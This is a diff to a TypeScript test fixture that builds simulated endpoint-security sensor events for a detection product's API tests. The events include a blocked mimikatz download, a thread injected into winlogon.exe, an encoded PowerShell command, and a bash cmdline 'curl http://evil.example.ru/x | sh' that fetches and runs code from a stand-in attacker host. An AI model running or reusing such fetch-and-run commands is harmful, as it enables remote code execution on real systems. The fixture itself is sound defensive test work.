@@ -57,6 +57,20 @@ export const BINARIES = {
 
 export const md5Of = (content: Buffer) => binaryMetadata(content, { observed_filename: 'x' }).md5.toLowerCase();
 
+/**
+ * Values the fleet's events carry for the event fields no other data reaches: the TLS fingerprints
+ * of powershell.exe's connection (sent in upper case, as the reference's examples write ja3), the
+ * IPv6 upstream nginx connects to, the md5 of winlogon.exe that powershell.exe injects a thread
+ * into, and the md5 of the banned tool explorer.exe was stopped from starting.
+ */
+export const EVENT_VALUES = {
+  ja3: 'E7D705A3286E19EA42F587B344EE6865',
+  ja3s: 'F4FEBC55EA12B31AE17CFB7E614AFDA8',
+  upstreamV6: '2001:db8:85a3::8a2e:370:7334',
+  injectedMd5: '5f1b3c2a9d8e7f60a1b2c3d4e5f60718',
+  blockedMd5: '29d3a9e7c6b5a4f3e2d1c0b9a8f7e6d5',
+};
+
 export interface Fleet {
   windows: TestSensor;
   linux: TestSensor;
@@ -64,10 +78,12 @@ export interface Fleet {
 }
 
 /**
- * Windows workstation WIN-ACCT-01 (Default Group): explorer.exe starting cmd.exe (the support
- * module's full process) and powershell.exe (a connection to update.microsoft.com, a script
- * written to Temp). Linux server web-01 (group Servers): bash fetching from evil.example.ru, and
- * nginx. cmd.exe's binary is signed by Microsoft; powershell's is unsigned.
+ * Windows workstation WIN-ACCT-01 (Default Group): explorer.exe, stopped by a ban from starting a
+ * tool, starting cmd.exe (the support module's full process) and powershell.exe (a TLS connection
+ * to update.microsoft.com, a script written to Temp, a thread injected into winlogon.exe).
+ * Linux server web-01 (group Servers): bash fetching from evil.example.ru, and nginx connecting to
+ * an IPv6 upstream. cmd.exe's binary is signed by Microsoft; powershell's is unsigned. Events of
+ * explorer.exe and nginx fall outside 10:00:00–10:00:01.5, a window the routes test counts.
  */
 export async function buildFleet(test: TestApp): Promise<Fleet> {
   const group = await test.app.inject({ method: 'POST', url: '/api/group', headers: as(test.adminToken), payload: { name: 'Servers', site_id: 1 } });
@@ -91,6 +107,10 @@ export async function buildFleet(test: TestApp): Promise<Fleet> {
   const ps = { pid: 5000, start: T0 + 1_000 };
   const windowsEvents: SensorEvent[] = [
     processStart(explorer.pid, explorer.start, { path: explorer.path, cmdline: 'C:\\Windows\\Explorer.EXE', username: 'CORP\\Alice', md5: explorer.md5 }),
+    {
+      type: 'processblock', ts: explorer.start + 30_000, pid: explorer.pid, process_start: explorer.start, blocked_md5: EVENT_VALUES.blockedMd5,
+      blocked_path: 'C:\\Users\\alice\\Downloads\\mimikatz.exe', block_result: 0,
+    },
     ...cmd,
     processStart(ps.pid, ps.start, {
       path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmdline: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
@@ -98,14 +118,22 @@ export async function buildFleet(test: TestApp): Promise<Fleet> {
     }),
     {
       type: 'netconn', ts: ps.start + 1, pid: ps.pid, process_start: ps.start, direction: 'outbound', proto: 6,
-      remote_ip: '13.107.4.50', remote_port: 443, domain: 'update.microsoft.com',
+      remote_ip: '13.107.4.50', remote_port: 443, domain: 'update.microsoft.com', ja3: EVENT_VALUES.ja3, ja3s: EVENT_VALUES.ja3s,
     },
     { type: 'filemod', ts: ps.start + 2, pid: ps.pid, process_start: ps.start, action: 'last_write', path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\a.ps1', md5: 'd'.repeat(32) },
+    {
+      type: 'crossproc', ts: ps.start + 3, pid: ps.pid, process_start: ps.start, action: 'remote_thread', target_pid: 700,
+      target_start: T0 - 120_000, target_path: 'C:\\Windows\\System32\\winlogon.exe', target_md5: EVENT_VALUES.injectedMd5.toUpperCase(), access: 0x1fffff,
+    },
   ];
   const bash = { pid: 1200, start: T0 + 2_000 };
   const nginx = { pid: 900, start: T0 - 3_600_000 };
   const linuxEvents: SensorEvent[] = [
     processStart(nginx.pid, nginx.start, { path: '/usr/sbin/nginx', cmdline: 'nginx: master process /usr/sbin/nginx', username: 'root' }),
+    {
+      type: 'netconn', ts: nginx.start + 60_000, pid: nginx.pid, process_start: nginx.start, direction: 'outbound', proto: 6,
+      remote_ip: EVENT_VALUES.upstreamV6, remote_port: 8080,
+    },
     processStart(bash.pid, bash.start, { path: '/usr/bin/bash', cmdline: '/bin/bash -c "curl http://evil.example.ru/x | sh"', username: 'www-data' }),
     {
       type: 'netconn', ts: bash.start + 1, pid: bash.pid, process_start: bash.start, direction: 'outbound', proto: 6,
